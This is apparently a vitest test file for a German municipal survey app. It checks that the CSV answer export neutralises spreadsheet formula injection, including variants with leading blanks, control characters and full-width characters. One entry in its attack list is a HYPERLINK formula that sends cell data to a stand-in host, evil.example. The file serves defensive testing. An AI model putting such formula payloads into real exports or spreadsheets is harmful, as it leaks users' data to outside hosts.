import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestUmgebung } from '../../../testing/testApp.ts';
import { KOMMUNE_A } from '../../../testing/fixtures.ts';
import { ladeFrageboegenInDb } from '../frageboegen/frageboegen.usecases.ts';
import { CSV_SPALTEN } from './export.csv.ts';

/**
 * Finding 6 of "Trust before growth": the answer export neutralised a leading `=`, but not ` =1+1`
 * (leading blank) or a leading tab/CR/LF before a formula.
 */
let t: TestUmgebung;
beforeAll(async () => {
  t = await createTestApp({ seed: (db) => ladeFrageboegenInDb(db).then(() => undefined) });
});
afterAll(async () => t?.close());

const ANGRIFFE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Hier klicken")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  ' =1+1',
  '  +1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00A0-2+3',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1,2)',
  "'=1+1",
];

describe('CSV der Antworten: keine Formeln', () => {
  it('entschärft jede Zelle, die ein Tabellenprogramm auswerten würde – mit Semikolon und mit Komma', async () => {
    const c = await t.als('mitglied');
    const r = await c.post(`/api/kommunen/${KOMMUNE_A}/erhebungen`, { fragebogenId: 'lernende-organisation', modus: 'einzeln' });
    expect(r.status, r.body).toBe(201);
    const id = r.json<{ id: string }>().id;
    for (const angriff of ANGRIFFE) {
      expect((await c.put(`/api/erhebungen/${id}/antworten`, { antworten: { wunsch: angriff, 'mot-vorschlaege': 4 } })).status).toBe(200);
      for (const [trennzeichen, delimiter] of [['semikolon', ';'], ['komma', ',']] as const) {
        const csv = await c.get(`/api/erhebungen/${id}/antworten.csv?trennzeichen=${trennzeichen}`);
        expect(csv.status).toBe(200);
        const zeilen: string[][] = parse(csv.body, { delimiter, bom: true, relax_column_count: false });
        expect(zeilen[0]).toEqual([...CSV_SPALTEN]);
        const wunsch = zeilen.find((z) => z[1] === 'wunsch')!;
        expect(wunsch[4], JSON.stringify(angriff)).toBe(`'${angriff}`);
        // Numeric columns stay numbers (points 0–100, version).
        const skala = zeilen.find((z) => z[1] === 'mot-vorschlaege')!;
        expect(skala[5]).toBe('75');
        expect(skala[8]).toBe('1');
      }
    }
  });
});
